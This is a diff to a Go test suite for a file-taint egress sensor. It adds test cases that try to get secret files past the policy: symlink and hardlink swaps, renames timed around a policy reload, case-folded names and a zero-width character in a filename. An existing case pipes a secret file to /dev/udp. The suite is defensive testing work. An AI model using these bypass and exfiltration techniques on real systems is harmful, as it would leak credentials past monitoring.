@@ -32,6 +32,9 @@ taint:
   secret_files:
     - /srv/secret/
     - /srv/one/token
+    - /srv/links/token
+    - /srv/links/key
+    - /srv/way/up/deep/
     - /box/token
     - ~/.keys/id_*
     - "**/.env"
@@ -52,6 +55,7 @@ type attempt struct {
 	hands   bool // somebody outside opens the file and hands it over
 	shell   bool // argv is for one
 	none    bool // no taint, and it arrives: a control
+	anew    bool // the list is looked up for another policy after before
 }
 
 func attempts() []attempt {
@@ -86,12 +90,29 @@ func attempts() []attempt {
 		{name: "execute", file: "/srv/secret/program", argv: "egress file-run -path FILE -to DEST -say TEXT", run: true},
 		{name: "handed", file: "/srv/secret/a", argv: "egress file-take -listen -path S/socket -to DEST", hands: true},
 		{name: "shell", file: "/srv/secret/a", argv: "cat FILE >/dev/udp/10.77.0.2/PORT", shell: true},
+		{name: "B130_unlinked", file: "/srv/plain/real", outside: "mkdir -p /srv/links; ln -sfn ../plain/real /srv/links/token; sleep 5; rm /srv/links/token; sleep 5", argv: read},
+		{name: "B130_other_link", file: "/srv/plain/older", outside: "mkdir -p /srv/links; ln -f FILE /srv/links/key; sleep 5", before: "rm /srv/links/key; sleep 5", argv: read},
+		{name: "B131_above", anew: true, file: "/srv/way/up/deep/a", outside: "sleep 5", before: "mv /srv/way/up S/up", argv: "egress file -path S/up/deep/a -to DEST", after: "rm -r S/up"},
+		{name: "B131_link", anew: true, file: "/srv/plain/linked/deep/a", outside: "mkdir -p /srv/way; ln -sfn ../plain/linked /srv/way/up; sleep 5", before: "rm /srv/way/up", argv: "egress file -path /srv/plain/linked/deep/a -to DEST"},
+		{name: "B131_link_over", anew: true, file: "/srv/plain/linked/deep/a", outside: "mkdir -p /srv/way; ln -sfn ../plain/linked /srv/way/up; sleep 5", before: "ln -sfn /dev/null /srv/way/up", argv: "egress file -path /srv/plain/linked/deep/a -to DEST", after: "rm /srv/way/up"},
+		{name: "B133_below", file: "/srv/plain/led", outside: "ln -sfn ../plain/led /srv/secret/led", argv: "egress file -path /srv/secret/led -to DEST", after: "rm /srv/secret/led"},
+		{name: "B133_anywhere", file: "/srv/plain/env", outside: "mkdir -p S/at; ln -sfn FILE S/at/.env", argv: "egress file -path S/at/.env -to DEST"},
+		{name: "B134_case", file: "/srv/folds/in/.env", outside: "umount /srv/folds; mount -o loop /srv/folds.ext4 /srv/folds", argv: "egress file -path /srv/folds/in/.ENV -to DEST"},
+		{name: "B134_ignored", file: "/srv/folds/in/server.pem", outside: "umount /srv/folds; mount -o loop /srv/folds.ext4 /srv/folds", argv: "egress file -path /srv/folds/in/server.p\u200bem -to DEST"},
 		{name: "other-name", file: "/srv/plain/env", argv: read, none: true},
 		{name: "other-directory", file: "/srv/secretive/a", argv: read, none: true},
 		{name: "other-home", file: "/root/.keys/known", argv: read, none: true},
 		{name: "listing", file: "/srv/plain/a", before: "ls -l /srv/secret; stat /srv/secret/a; readlink -f /srv/secret/a", argv: read, none: true},
 		{name: "writing", file: "/srv/plain/a", before: "echo x >/srv/secret/made; rm /srv/secret/made", argv: read, none: true},
 	}
+}
+
+// id names its test.
+func (a attempt) id() string {
+	if strings.HasPrefix(a.name, "B1") {
+		return a.name
+	}
+	return "G2_" + a.name
 }
 
 type fixture struct {
@@ -134,7 +155,13 @@ func (f *fixture) try(t *testing.T, a attempt, s *rig.Session) (text string, por
 	if a.before != "" || a.shell {
 		argv = []string{"bash", "-c", "set -e; " + words.Replace(a.before) + "\n" + line}
 	}
+	if a.anew {
+		argv[2] = "set -e; " + words.Replace(a.before) + "\necho done; read x\n" + line
+	}
 	p := s.Start(t, argv...)
+	if a.anew {
+		f.renew(t, p)
+	}
 	if a.hands {
 		p.WaitLine("listening", rig.Late)
 		f.world.Agent.Start(t, bin+"egress", "file-give", "-path", free+"/socket", "-say", a.file).WaitLine("given", rig.Late)
@@ -145,6 +172,20 @@ func (f *fixture) try(t *testing.T, a attempt, s *rig.Session) (text string, por
 		rig.Must(t, words.Replace(a.after))
 	}
 	return text, port, mark, r.String()
+}
+
+// renew puts another policy in force once a process is done with what comes before.
+func (f *fixture) renew(t *testing.T, p *rig.Proc) {
+	t.Helper()
+	if p.WaitLine("done", rig.Late) == "" {
+		t.Fatal(p.Wait(t))
+	}
+	if f.sensor != nil {
+		f.sensor.Policy(t, policy+"hold: false\n")
+		time.Sleep(5 * time.Second) // files are looked for every two
+		f.sensor.Policy(t, policy)
+	}
+	p.Input(t, "\n")
 }
 
 func write(t *testing.T, file, text string) {
@@ -168,7 +209,8 @@ func (f *fixture) arrives(t *testing.T, text, out string) {
 // made has the directories that are listed, and others, before anybody looks for them.
 func made(t *testing.T) {
 	rig.Must(t, "mkdir -p /srv/secret /srv/one /srv/box /srv/plain /srv/secretive /srv/free /root/.keys /tmp/plain; modprobe overlay; "+
-		"cp $(type -P egress) $(type -P egress.386) "+bin)
+		"cp $(type -P egress) $(type -P egress.386) "+bin+"; modprobe loop; umount -q /srv/folds; truncate -s 16M /srv/folds.ext4; "+
+		"mkfs.ext4 -qF -O casefold /srv/folds.ext4; mkdir -p /srv/folds; mount -o loop /srv/folds.ext4 /srv/folds; mkdir /srv/folds/in; chattr +F /srv/folds/in")
 }
 
 // TestWithoutSensor shows that each attempt gets the text out.
@@ -191,7 +233,7 @@ func TestFiles(t *testing.T) {
 	f.sensor = rig.StartSensor(t, policy)
 	s := f.sensor.Guard(t, "reader")
 	for _, a := range attempts() {
-		t.Run("G2_"+a.name, func(t *testing.T) {
+		t.Run(a.id(), func(t *testing.T) {
 			text, port, mark, out := f.try(t, a, s)
 			if a.none {
 				f.arrives(t, text, out)
@@ -333,7 +375,7 @@ func (f *fixture) told(t *testing.T, a attempt) {
 			return
 		}
 	}
-	if !strings.Contains(e.Change.Why, name) && !strings.Contains(a.name, "rename-directory") || e.Process == nil || e.Change.By == "" {
+	if !strings.Contains(e.Change.Why, name) && !strings.Contains(a.name, "rename-directory") && !strings.HasPrefix(a.name, "B13") || e.Process == nil || e.Change.By == "" {
 		t.Errorf("the event does not name file and command: %+v %+v", e.Change, e.Process)
 	}
 }
